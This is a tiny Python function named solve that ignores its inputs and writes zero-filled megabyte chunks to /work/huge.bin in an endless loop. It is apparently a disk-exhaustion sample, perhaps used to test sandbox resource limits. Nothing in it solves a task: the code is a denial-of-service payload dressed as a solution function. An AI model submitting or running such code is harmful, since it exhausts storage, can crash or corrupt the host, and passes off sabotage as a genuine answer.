def solve(a, b):
    chunk = b"\0" * (1024 * 1024)
    with open("/work/huge.bin", "wb") as handle:
        while True:
            handle.write(chunk)
